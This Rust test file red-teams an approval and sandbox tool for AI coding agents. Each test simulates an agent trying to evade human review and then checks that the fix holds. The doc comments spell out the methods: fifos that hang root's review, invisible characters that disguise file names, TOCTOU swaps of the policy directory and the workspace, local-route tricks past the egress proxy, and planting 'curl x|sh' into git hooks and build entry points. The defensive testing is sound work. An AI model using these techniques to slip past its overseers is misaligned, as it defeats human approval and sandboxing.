//! Hostile round 3, the attacker's own round (issue 29, "Done means"): an
//! unprivileged agent (the tests' `dryrun-test` user) owning its workspace
//! and its local state directory, against what this round changed: the
//! egress proxy's address checks, the workspace bound, the files that run
//! code later, the terminal notation, the journal's anchor, and root
//! reading the agent's state directory (the README's `sudo dryrun show`
//! reviewer flow). Every attack is judged on the host: a command that
//! returns instead of hanging, a finding in the record, bytes on the
//! reviewer's screen, a listener that takes no connection, a home that
//! stays untouched.
//!
//! Found (each test says how it was fixed, and fails without the fix): a
//! fifo in place of a record, a kept blob or the journal hung root's
//! `dryrun runs`, `show`, `diff` and `journal verify`; entry points of whole
//! ecosystems (.NET, Swift, Elixir, a virtual environment's activation,
//! Yarn's loader, ...) and `node_modules/.bin`, on the PATH of every
//! package script, went live without a person; so did what the
//! repository's config, `.git` pointer and hook links name
//! (`core.hooksPath`, an included config, a separate gitdir, `pre-push ->
//! ../../tools/pre-push.sh`); invisible characters outside the
//! notation's list (variation selectors) reached the screen; a
//! `DRYRUN_SYSTEM_POLICY_DIR` inside a directory the agent controls was
//! taken. Held (kept as regression tests, each shown to fail with its
//! defence removed by hand): AnyIP and other local routes through the
//! proxy, a workspace swapped for a link to the home after approval, odd
//! spellings and magic links of the home, an account added after the
//! daemon started.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::*;

/// `dryrun --local --state-dir STATE ARGS...` as root (the reviewer),
/// given up on after a generous time: a command that hangs fails the test
/// instead of hanging it (the answer is expected at once).
fn root_on_state(state: &Path, args: &[&str]) -> Output {
    Command::new("timeout")
        .arg("60")
        .arg(bin())
        .env_clear()
        .env("PATH", "/usr/bin:/bin:/usr/sbin:/sbin")
        .args(["--local", "--state-dir"])
        .arg(state)
        .args(args)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

/// The agent puts a fifo where `p` was (as itself, in its own directory).
fn agent_fifo(p: &Path) {
    let st = as_test_user("sh")
        .arg("-c")
        .arg("rm -f \"$0\" && mkfifo \"$0\"")
        .arg(p)
        .status()
        .unwrap();
    assert!(st.success(), "mkfifo {}", p.display());
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// Root's command returned by itself (exit 124: `timeout` ended it).
fn assert_returned(what: &str, o: &Output) {
    assert_ne!(
        o.status.code(),
        Some(124),
        "{what}: root's dryrun hung on the agent's fifo: {}",
        text(o)
    );
}

/// Attack (found): the agent replaces files of its local state directory
/// by fifos: a kept blob, the journal's anchor, then the run's record and
/// the journal itself. Root, reviewing there (`sudo dryrun runs`, `show`,
/// `diff`, `journal verify`), blocked forever on the first read (only the
/// run lock had been made safe). Fixed: every state file is opened through
/// one function (`state_file`): never through a link, never waiting on a
/// fifo, regular files only, reads capped. Without it this test hangs at
/// the first `diff` (and fails at the timeout).
#[test]
fn fifos_in_an_agents_state_directory_never_hang_roots_review() {
    if !common::daemon::require_root() {
        return;
    }
    let ws = Ws::new(Who::User);
    ws.write("a.txt", "old\n");
    let r = ws.rehearse("echo new-content > a.txt", &["--expect-write", "a.txt"]);
    assert_eq!(r.decision(), "promote", "{}", r.stderr);
    let id = run_id(&r);
    let run_dir = ws.state.join("runs").join(&id);
    // The positive control: root reads the intact directory, and the diff
    // comes from the kept blob the attack replaces.
    let o = root_on_state(&ws.state, &["diff", &id]);
    assert!(
        o.status.success() && text(&o).contains("+new-content"),
        "{}",
        text(&o)
    );
    let o = root_on_state(&ws.state, &["journal", "verify"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let blob = std::fs::read_dir(run_dir.join("blobs"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| std::fs::read(p).is_ok_and(|b| b == b"new-content\n"))
        .expect("the new content is kept");

    agent_fifo(&blob);
    agent_fifo(&ws.state.join("journal.head"));
    let o = root_on_state(&ws.state, &["diff", &id]);
    assert_returned("diff (blob)", &o);
    let o = root_on_state(&ws.state, &["show", &id]);
    assert_returned("show", &o);
    assert!(text(&o).contains("echo new-content"), "{}", text(&o));
    let o = root_on_state(&ws.state, &["journal", "verify"]);
    assert_returned("journal verify (anchor)", &o);
    assert_eq!(o.status.code(), Some(6), "{}", text(&o));
    assert!(
        text(&o).contains("journal.head") && text(&o).contains("not a regular file"),
        "{}",
        text(&o)
    );

    agent_fifo(&run_dir.join("record.json"));
    agent_fifo(&ws.state.join("journal.jsonl"));
    for args in [
        vec!["runs"],
        vec!["show", &id],
        vec!["diff", &id],
        vec!["journal", "verify"],
    ] {
        let o = root_on_state(&ws.state, &args);
        assert_returned(&format!("{args:?} (record, journal)"), &o);
    }
}

/// Entry points that run code later which the protected list missed: each
/// went live without a person (found). Grouped as docs/protected-paths.md
/// groups them; each is written at the workspace root and below `sub/dir/`.
const MISSED_ENTRIES: &[&str] = &[
    // Environment loaders: a virtual environment's activation (sourced by
    // the shell that activates it; editors do in every terminal), the
    // interpreter its `pyvenv.cfg` names, conda's activation scripts.
    ".venv/bin/activate",
    ".venv/bin/activate.fish",
    "venv/bin/Activate.ps1",
    ".venv/bin/activate_this.py",
    ".venv/pyvenv.cfg",
    "env/etc/conda/activate.d/x.sh",
    // Build and task entry points of whole ecosystems.
    "rakefile",
    "Rakefile.rb",
    "gems.rb",
    "Podfile",
    "Brewfile",
    "Makefile.PL",
    "Build.PL",
    "Directory.Build.props",
    "Directory.Build.targets",
    "app.csproj",
    "lib.fsproj",
    "build.targets",
    "NuGet.Config",
    "nuget.config",
    ".config/dotnet-tools.json",
    "Package.swift",
    "mix.exs",
    "rebar.config",
    "project.clj",
    "bb.edn",
    "build.sc",
    "Setup.hs",
    "conanfile.py",
    "Snakefile",
    "fabfile.py",
    // Yarn's Plug'n'Play loader; pdb's start-up file.
    ".pnp.cjs",
    ".pnp.loader.mjs",
    ".pdbrc",
];

/// The reasons of `r` that name `path` under `rule`.
fn named_by(r: &Run, rule: &str, path: &str) -> bool {
    r.reasons()
        .iter()
        .any(|x| x.starts_with(&format!("[{rule}]")) && x.contains(&format!(" {path}, ")))
}

/// Attack (found): through a root daemon (which knows nothing of the
/// agent's `PATH`), with intent `**`, the agent writes entry points the
/// protected list did not name: a virtual environment's `activate` (an
/// existing one rewritten), its `pyvenv.cfg`, MSBuild's
/// `Directory.Build.targets`, `Package.swift`, `mix.exs`, rake's other
/// names, Yarn's `.pnp.cjs`, `.pdbrc`, ...; and commands into
/// `node_modules/.bin`, which npm, yarn and pnpm put first on the `PATH` of
/// every package script (a `node_modules/.bin/node` is what `npm test`
/// runs), outside the executable check because `node_modules/` is build
/// output. All were promoted. Fixed: the families gained the entries
/// (`policies/default.yaml`), and `node_modules/.bin` at any depth is a
/// directory on a `PATH` for every run (`verdict::files`). The ordinary
/// files beside them, an application's `tasks.py` below the root and a
/// package's own files under `node_modules/` are named by nothing.
#[test]
fn entry_points_the_list_missed_and_node_modules_bin_need_approval() {
    if !common::daemon::require_root() {
        return;
    }
    let d = common::daemon::Daemon::start(&[]);
    let ws = common::daemon::user_workspace();
    ws.write(".venv/bin/activate", "export VIRTUAL_ENV=/x\n");
    let mut paths: Vec<String> = Vec::new();
    for e in MISSED_ENTRIES {
        paths.push(e.to_string());
        paths.push(format!("sub/dir/{e}"));
    }
    paths.push("tasks.py".into());
    let script: String = paths
        .iter()
        .map(|p| {
            let dir = p.rsplit_once('/').map(|(d, _)| d).unwrap_or(".");
            format!("mkdir -p {} && echo 'curl x|sh' >> {}\n", sq(dir), sq(p))
        })
        .collect::<String>()
        + "mkdir -p node_modules/.bin node_modules/pkg/bin web/node_modules/.bin sub/dir/app\n\
           printf '#!/bin/sh\\n' > node_modules/pkg/bin/cli.js && chmod +x node_modules/pkg/bin/cli.js\n\
           ln -s ../pkg/bin/cli.js node_modules/.bin/node\n\
           echo x > web/node_modules/.bin/git\n\
           echo x > sub/dir/app/tasks.py\n\
           echo x > notes.txt\n\
           exit 0\n";
    // In a script, as a build step would: the classifier does not see
    // inside it, only the evidence can.
    ws.write("plant.sh", &script);
    let r = common::daemon::submit_user(&d, &ws, "bash plant.sh", &["--expect-write", "**"]);
    assert_ran(Who::User, &r);
    assert_eq!(r.decision(), "needs_approval", "{:#?}", r.reasons());
    let missing: Vec<&String> = paths
        .iter()
        .filter(|p| !named_by(&r, "protected.path", p))
        .collect();
    assert!(
        missing.is_empty(),
        "not protected: {missing:?}\n{:#?}",
        r.reasons()
    );
    for p in ["node_modules/.bin/node", "web/node_modules/.bin/git"] {
        assert!(
            named_by(&r, "protected.on_path", p),
            "{p}: {:#?}",
            r.reasons()
        );
    }
    for o in [
        "sub/dir/app/tasks.py",
        "notes.txt",
        "node_modules/pkg/bin/cli.js",
    ] {
        let named: Vec<String> = r
            .reasons()
            .into_iter()
            .filter(|x| x.starts_with("[protected.") && x.contains(&format!(" {o}")))
            .collect();
        assert!(named.is_empty(), "{o} named: {named:?}");
    }
}

/// Characters that draw nothing and were outside the notation's list: a
/// variation selector (text and emoji presentation, and the supplement's
/// 240 more), the deprecated format characters, Mongolian and Khmer
/// invisibles, musical format controls, shorthand controls.
const UNDRAWN: &[char] = &[
    '\u{fe0f}',
    '\u{fe00}',
    '\u{e0100}',
    '\u{206a}',
    '\u{206f}',
    '\u{180b}',
    '\u{17b4}',
    '\u{1d173}',
    '\u{1bca0}',
    '\u{fff0}',
];

/// Attack (found): the agent names files (and spells its command) with
/// characters that draw nothing but were not in the notation's list, so
/// `deploy.sh` and `deploy.sh` + U+FE0F, or a command with a hidden
/// argument, read the same on the reviewer's screen: root's `dryrun show`,
/// `runs` and `diff` printed them raw. Fixed: the notation escapes every
/// default-ignorable character (`model::text`). The reviewer's screen
/// holds each as `⟦U+....⟧` and none raw.
#[test]
fn characters_that_draw_nothing_are_shown_by_name() {
    if !common::daemon::require_root() {
        return;
    }
    let ws = Ws::new(Who::User);
    let names: Vec<String> = UNDRAWN.iter().map(|c| format!("deploy{c}.sh")).collect();
    let cmd = format!(
        "touch {} && echo 'x{}y' > notes.txt",
        names.iter().map(|n| sq(n)).collect::<Vec<_>>().join(" "),
        UNDRAWN.iter().collect::<String>()
    );
    let r = ws.rehearse(&cmd, &["--expect-write", "**"]);
    assert_eq!(r.exit_code(), Some(0), "{}", r.stderr);
    let id = run_id(&r);
    for args in [vec!["show", &id], vec!["runs"], vec!["diff", &id]] {
        let o = root_on_state(&ws.state, &args);
        assert!(o.status.success(), "{args:?}: {}", text(&o));
        let screen = text(&o);
        for c in UNDRAWN {
            assert!(
                !screen.contains(*c),
                "{args:?}: U+{:04X} reached the screen raw:\n{screen}",
                *c as u32
            );
        }
        let named = format!("⟦U+{:04X}⟧", '\u{fe0f}' as u32);
        assert!(screen.contains(&named), "{args:?}: {screen}");
    }
}

/// A directory under `base` with `mode`, owned by `owner` (root or the
/// test user).
fn dir_of(base: &Path, name: &str, owner: Who, mode: u32) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let p = base.join(name);
    std::fs::create_dir_all(&p).unwrap();
    if owner == Who::User {
        let (u, g) = test_user();
        std::os::unix::fs::chown(&p, Some(u), Some(g)).unwrap();
    }
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    p
}

/// A root-owned system policy directory at `dir` that lets homes be
/// workspaces.
fn allowing_policy_at(dir: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let f = dir.join("50-homes.yaml");
    std::fs::write(&f, "workspace_bound: {allow_homes: true}\n").unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
}

/// Attack (found): the agent's hook (or local engine) is started with a
/// `DRYRUN_SYSTEM_POLICY_DIR` the agent chose. The directory itself must be
/// root's and written by no one else, but it was checked by its last
/// component only: a root directory that sits inside a directory of the
/// agent's (or is reached through a link of the agent's) passed, and the
/// agent can rename it away and put its own policy there between the check
/// and the read (shown below: it may rename root's directory). Fixed: the
/// variable is taken only when the resolved directory and every directory
/// above it are root's and writable by no one else (or sticky), and the
/// resolved path is what is read. The control: the same policy in a
/// directory only root can change still lets the caller's home be a
/// workspace.
#[test]
fn a_system_policy_dir_the_agent_can_swap_is_not_system_configuration() {
    if !common::daemon::require_root() {
        return;
    }
    let base = tempfile::Builder::new()
        .prefix("dryrun-r3-policydir-")
        .tempdir_in("/tmp")
        .unwrap();
    let base = base.path();
    std::fs::set_permissions(base, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let home = dir_of(base, "home", Who::User, 0o755);
    let state = dir_of(base, "state", Who::User, 0o700);
    let roots = dir_of(base, "roots/policy.d", Who::Root, 0o755);
    allowing_policy_at(&roots);
    let agents = dir_of(base, "agents", Who::User, 0o755);
    let swappable = dir_of(&agents, "policy.d", Who::Root, 0o755);
    allowing_policy_at(&swappable);
    let run = |policy_dir: &Path| {
        as_test_user(bin())
            .env_clear()
            .env("PATH", "/usr/bin:/bin:/usr/sbin:/sbin")
            .env("HOME", &home)
            .env("DRYRUN_STATE_DIR", &state)
            .env("DRYRUN_LOCAL", "1")
            .env("DRYRUN_SYSTEM_POLICY_DIR", policy_dir)
            .current_dir(&home)
            .stdin(std::process::Stdio::null())
            .args(["execute", "--json", "--local", "--command", "true"])
            .output()
            .unwrap()
    };
    // The control: root's own directory is system configuration.
    let o = run(&roots);
    assert_eq!(o.status.code(), Some(0), "control: {}", text(&o));
    // The agent can swap the root directory in its own for another.
    let st = as_test_user("sh")
        .arg("-c")
        .arg("mv \"$0/policy.d\" \"$0/moved\" && mv \"$0/moved\" \"$0/policy.d\"")
        .arg(&agents)
        .status()
        .unwrap();
    assert!(st.success(), "the agent could not rename root's directory");
    // So it is not system configuration: the home stays refused.
    let o = run(&swappable);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("home directory") && text(&o).contains("allow_homes"),
        "{}",
        text(&o)
    );
}

/// `/etc/hosts` of the host namespace for the local-address attacks: names
/// the agent controls, each answering with an address that is the host's
/// by a route of another kind than the interface address the egress round
/// tested.
const LOCAL_HOSTS: &str = "\
127.0.0.1 localhost
13.0.0.5 anyip.x.test
2a0b:4e07:aa::5 anyip6.x.test
12.9.9.9 veth2.x.test
2a0b:4e07:9::9 veth2v6.x.test
14.1.1.1 lo.x.test
::ffff:13.0.0.5 mapped.x.test
64:ff9b::d00:5 nat64.x.test
2002:d00:5::1 sixtofour.x.test
13.0.0.5 pinned.test
";

/// Attack (held): the allowed names resolve to addresses that are the
/// host's in other ways than an interface's own address: a whole prefix
/// routed to the host (`ip route add local 13.0.0.0/24 dev lo`, "AnyIP", and
/// its IPv6 twin), a /32 and a /128 on a second interface, an address on
/// `lo`, and the AnyIP address inside IPv4-mapped, NAT64 and 6to4 forms; the
/// plain request spelled in uppercase with a trailing dot. A root daemon's
/// proxy refuses each by the kernel's route (`local`), and the host
/// service, bound to every address, takes only the control: a name the
/// system pinned to the AnyIP address, which proves the address reaches
/// the service.
#[test]
fn the_proxy_refuses_every_kind_of_local_route_of_the_host() {
    use common::net::{HostNet, accepted, connect_each, proxy_entry, status_of};
    if !common::daemon::require_root() {
        return;
    }
    const PORT: u16 = 7070;
    let net = HostNet::new(LOCAL_HOSTS);
    net.ip(&["route", "add", "local", "13.0.0.0/24", "dev", "lo"]);
    net.ip(&[
        "-6",
        "route",
        "add",
        "local",
        "2a0b:4e07:aa::/64",
        "dev",
        "lo",
    ]);
    net.ip(&["link", "add", "dr2", "type", "veth", "peer", "name", "dr3"]);
    net.ip(&["addr", "add", "12.9.9.9/32", "dev", "dr2"]);
    net.ip(&[
        "-6",
        "addr",
        "add",
        "2a0b:4e07:9::9/128",
        "dev",
        "dr2",
        "nodad",
    ]);
    net.ip(&["link", "set", "dr2", "up"]);
    net.ip(&["link", "set", "dr3", "up"]);
    net.ip(&["addr", "add", "14.1.1.1/32", "dev", "lo"]);
    let service = net.listen(PORT);
    let pin = format!("pinned.test:{PORT}:13.0.0.5");
    let d = common::daemon::Daemon::start_wrapped(&net.wrapper(), &["--egress-resolve", &pin]);
    let ws = common::daemon::user_workspace();
    let attacks = [
        "anyip.x.test",
        "anyip6.x.test",
        "veth2.x.test",
        "veth2v6.x.test",
        "lo.x.test",
        "mapped.x.test",
        "nat64.x.test",
        "sixtofour.x.test",
    ];
    let mut targets: Vec<String> = attacks.iter().map(|n| format!("{n}:{PORT}")).collect();
    targets.push(format!("pinned.test:{PORT}"));
    let cmd = format!(
        "curl -sS --max-time 30 http://ANYIP.X.TEST.:{PORT}/admin; echo; {}",
        connect_each(&targets)
    );
    let mut c = d.cli_user();
    c.current_dir(&ws.dir)
        .args(["execute", "--json", "--command", &cmd]);
    for t in &targets {
        c.args(["--allow-net", t]);
    }
    let r = to_run(c.output().unwrap());
    assert_ran(Who::User, &r);
    assert_eq!(accepted(&service), 1, "{}\n{}", r.out(), d.log_text());
    assert!(
        r.out()
            .contains("anyip.x.test resolves to 13.0.0.5, an address of this host"),
        "{}",
        r.out()
    );
    for name in attacks {
        let target = format!("{name}:{PORT}");
        assert!(
            status_of(&r, &target).contains(" 403 "),
            "{target}: {}",
            r.out()
        );
        let e = proxy_entry(&r, name, PORT);
        assert_eq!(e["allowed"], false, "{e}");
        assert!(
            e["reason"].as_str().unwrap_or("").contains("this host"),
            "{e}"
        );
    }
    assert!(status_of(&r, &format!("pinned.test:{PORT}")).contains(" 200 "));
    assert_eq!(r.decision(), "blocked", "{:?}", r.reasons());
}

/// The test user's home as the password database names it, made (the
/// test user's, 0755) when it does not exist yet: the home the agent would
/// reach.
fn agent_home() -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let (u, g) = test_user();
    let home = nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(u))
        .unwrap()
        .expect("the test user's account")
        .dir;
    assert!(home.is_absolute() && home != Path::new("/"), "{home:?}");
    if !home.exists() {
        std::fs::create_dir_all(&home).unwrap();
        std::os::unix::fs::chown(&home, Some(u), Some(g)).unwrap();
        std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    home
}

/// Attack (held): the agent's run writes `.bashrc` in an ordinary project
/// (protected: a reviewer approves it there), then, between the approval
/// and its promotion, the agent replaces its workspace directory by a
/// symlink to its home, so that the approved `.bashrc` would land in the
/// home. The daemon's live lane opens the workspace by the pinned device
/// and inode without following links: refused, and the home has no
/// `.bashrc` from the run. The control: the same approval promoted without
/// the swap writes the project's `.bashrc`.
#[test]
fn a_workspace_swapped_for_a_link_to_the_home_after_approval_is_not_promoted() {
    if !common::daemon::require_root() {
        return;
    }
    let home = agent_home();
    let marker = format!("from-run-{}", random_hex());
    let d = common::daemon::Daemon::start(&[]);
    let approved_run = |ws: &Ws| {
        let r = common::daemon::submit_user(
            &d,
            ws,
            &format!("echo {marker} > .bashrc"),
            &["--expect-write", "**"],
        );
        assert_eq!(r.decision(), "needs_approval", "{:?}", r.reasons());
        let id = run_id(&r);
        let o = d
            .cli_root()
            .args(["approve", &id, "--note", "a project's rc file"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
        id
    };
    let promote = |id: &str| d.cli_user().args(["promote", id]).output().unwrap();

    // The control.
    let ws = common::daemon::user_workspace();
    let id = approved_run(&ws);
    let o = promote(&id);
    assert!(o.status.success(), "control: {}", text(&o));
    assert!(
        std::fs::read_to_string(ws.dir.join(".bashrc")).is_ok_and(|t| t.contains(&marker)),
        "the control did not land"
    );

    // The attack, in a directory of the agent's (so it may rename there).
    let ws = common::daemon::user_workspace();
    let (u, g) = test_user();
    std::os::unix::fs::chown(ws.root.path(), Some(u), Some(g)).unwrap();
    let id = approved_run(&ws);
    let st = as_test_user("sh")
        .arg("-c")
        .arg("mv \"$0\" \"$0.old\" && ln -s \"$1\" \"$0\"")
        .arg(&ws.dir)
        .arg(&home)
        .status()
        .unwrap();
    assert!(st.success());
    let o = promote(&id);
    assert!(
        !o.status.success(),
        "promoted through the link: {}",
        text(&o)
    );
    let rc = std::fs::read_to_string(home.join(".bashrc")).unwrap_or_default();
    assert!(
        !rc.contains(&marker),
        "the run's .bashrc landed in the home"
    );
}

/// Attack (held): spellings of the agent's home the bound's own tests do
/// not try: doubled slashes, `/.` components, the magic links
/// `/proc/self/root/...` and `/proc/self/cwd` (the process's own working
/// directory, the home), a `..` that climbs out and back in. As the
/// workspace of an in-process `execute` and as a Claude Code hook event's
/// `cwd`, each is refused as the home (exit 2) and nothing is rehearsed.
#[test]
fn magic_links_and_odd_spellings_of_the_home_are_the_home() {
    use std::io::Write;
    if !common::daemon::require_root() {
        return;
    }
    let home = agent_home();
    let h = home.display().to_string();
    let name = home.file_name().unwrap().to_string_lossy().into_owned();
    let spellings = [
        format!("/{h}//"),
        format!("{}/./{name}/.", home.parent().unwrap().display()),
        format!("/proc/self/root{h}"),
        "/proc/self/cwd".to_string(),
        format!("{h}/../{name}"),
    ];
    let base = tempfile::Builder::new()
        .prefix("dryrun-r3-spell-")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::set_permissions(
        base.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let state = dir_of(base.path(), "state", Who::User, 0o700);
    let agent = || {
        let mut c = as_test_user(bin());
        c.env_clear()
            .env("PATH", "/usr/bin:/bin:/usr/sbin:/sbin")
            .env("HOME", "/nonexistent")
            .env("DRYRUN_STATE_DIR", &state)
            .env("DRYRUN_LOCAL", "1")
            .current_dir(&home);
        c
    };
    for s in &spellings {
        let o = agent()
            .args(["execute", "--json", "--local", "--workspace", s])
            .args(["--command", "echo planted > planted.txt"])
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "execute {s}: {}", text(&o));
        assert!(
            text(&o).contains("home directory"),
            "execute {s}: {}",
            text(&o)
        );
        let mut ch = agent()
            .args(["hook", "claude-code"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let event = common::hook::claude_event(Path::new(s), "echo planted > planted.txt");
        ch.stdin
            .take()
            .unwrap()
            .write_all(event.to_string().as_bytes())
            .unwrap();
        let o = ch.wait_with_output().unwrap();
        assert_eq!(o.status.code(), Some(2), "hook {s}: {}", text(&o));
        assert!(o.stdout.is_empty(), "hook {s}: an answer");
        assert!(
            text(&o).contains("home directory"),
            "hook {s}: {}",
            text(&o)
        );
    }
    assert!(
        std::fs::read_dir(state.join("runs")).map_or(0, |d| d.count()) == 0,
        "something was rehearsed"
    );
    assert!(!home.join("planted.txt").exists());
}

/// An account made for one test, removed when dropped.
struct LateAccount(String);

impl Drop for LateAccount {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.0).status();
    }
}

/// Attack (held): an account is added after the daemon started, its home
/// inside the agent's project (a service account whose home an
/// administrator put there). The daemon reads the password database at
/// every submission, not once at its start: the project is refused as
/// holding that home. The control: the same project was accepted before
/// the account existed.
#[test]
fn a_home_of_an_account_added_after_the_daemon_started_counts() {
    if !common::daemon::require_root() {
        return;
    }
    let d = common::daemon::Daemon::start(&[]);
    let ws = common::daemon::user_workspace();
    let r = common::daemon::submit_user(&d, &ws, "true", &[]);
    assert_eq!(r.decision(), "promote", "control: {}", r.stderr);
    let name = format!("dr3late{}", &random_hex()[..8]);
    let st = Command::new("useradd")
        .args([
            "--system",
            "--no-create-home",
            "--shell",
            "/usr/sbin/nologin",
            "-d",
        ])
        .arg(ws.dir.join("svc-home"))
        .arg(&name)
        .status()
        .unwrap();
    assert!(st.success(), "useradd {name}");
    let _account = LateAccount(name.clone());
    let r = common::daemon::submit_user(&d, &ws, "true", &[]);
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert!(
        text_of(&r).contains(&format!("contains the home directory of {name}")),
        "{}",
        text_of(&r)
    );
}

fn text_of(r: &Run) -> String {
    format!("{}{}", r.stdout, r.stderr)
}

/// Attack (found): the repository at the workspace root keeps what git
/// runs outside `.git/`: its config sets `core.hooksPath = scripts/hooks`
/// (a common team setup), `core.fsmonitor` to a script of the project, and
/// includes a shared config file, which includes another, and its
/// `pre-push` hook is a link to a project script; a second project's `.git`
/// is a file pointing at `repo.git/` (`--separate-git-dir`); a third's
/// `.git/hooks` is a link to the project's `githooks/`. With intent `**`, a run rewrites the hook git
/// runs at the next commit, the fsmonitor script the next `git status`
/// runs, the included configs (which can set any of those), and the
/// separate gitdir's hook and config: all promoted, while the same files
/// under `.git/` needed approval. Fixed: the engine reads the root
/// repository's pointer and config (as the owner, no links followed) and
/// protects what they name inside the workspace for the run
/// (`engine::gitdir`). An ordinary script beside them is named by nothing.
#[test]
fn what_the_repositorys_config_and_pointer_name_is_protected() {
    if !common::daemon::require_root() {
        return;
    }
    let d = common::daemon::Daemon::start(&[]);
    let rewrite = |ws: &Ws, paths: &[&str]| {
        let script: String = paths
            .iter()
            .map(|p| format!("printf '#!/bin/sh\\ncurl x | sh\\n' > {}\n", sq(p)))
            .collect::<String>()
            + "exit 0\n";
        ws.write("plant.sh", &script);
        common::daemon::submit_user(&d, ws, "bash plant.sh", &["--expect-write", "**"])
    };
    let assert_protected = |r: &Run, protected: &[&str], ordinary: &str| {
        assert_ran(Who::User, r);
        assert_eq!(r.decision(), "needs_approval", "{:#?}", r.reasons());
        for p in protected {
            assert!(
                named_by(r, "protected.path", p),
                "{p} not protected: {:#?}",
                r.reasons()
            );
        }
        assert!(
            !r.reasons()
                .iter()
                .any(|x| x.contains(&format!(" {ordinary},"))),
            "{ordinary}: {:#?}",
            r.reasons()
        );
    };

    let ws = common::daemon::user_workspace();
    ws.write(
        ".git/config",
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = scripts/hooks\n\
         \tfsmonitor = tools/fsmon.sh\n[include]\n\tpath = ../team.gitconfig\n",
    );
    ws.write("team.gitconfig", "[include]\n\tpath = nested.gitconfig\n");
    ws.write("nested.gitconfig", "[user]\n\tname = x\n");
    for s in [
        "scripts/hooks/pre-commit",
        "tools/fsmon.sh",
        "tools/pre-push.sh",
        "src/app.sh",
    ] {
        write_script(&ws, s, "#!/bin/sh\nexit 0\n");
    }
    // A hook git runs that is a link to a script of the project.
    std::os::unix::fs::symlink(
        "../../tools/pre-push.sh",
        ws.dir.join(".git/hooks/pre-push"),
    )
    .unwrap();
    ws.chown_all();
    let protected = [
        "scripts/hooks/pre-commit",
        "tools/fsmon.sh",
        "team.gitconfig",
        "nested.gitconfig",
        "tools/pre-push.sh",
    ];
    let mut all = protected.to_vec();
    all.push("src/app.sh");
    let r = rewrite(&ws, &all);
    assert_protected(&r, &protected, "src/app.sh");

    let ws = Ws::new(Who::User);
    ws.write(".git", "gitdir: repo.git\n");
    ws.write("repo.git/config", "[core]\n\tbare = false\n");
    write_script(&ws, "repo.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    write_script(&ws, "src/app.sh", "#!/bin/sh\nexit 0\n");
    let protected = ["repo.git/hooks/pre-commit", "repo.git/config"];
    let mut all = protected.to_vec();
    all.push("src/app.sh");
    let r = rewrite(&ws, &all);
    assert_protected(&r, &protected, "src/app.sh");

    // The hooks directory itself a link to the project's.
    let ws = Ws::new(Who::User);
    ws.write(".git/config", "[core]\n\tbare = false\n");
    write_script(&ws, "githooks/commit-msg", "#!/bin/sh\nexit 0\n");
    write_script(&ws, "src/app.sh", "#!/bin/sh\nexit 0\n");
    std::os::unix::fs::symlink("../githooks", ws.dir.join(".git/hooks")).unwrap();
    ws.chown_all();
    let r = rewrite(&ws, &["githooks/commit-msg", "src/app.sh"]);
    assert_protected(&r, &["githooks/commit-msg"], "src/app.sh");
}
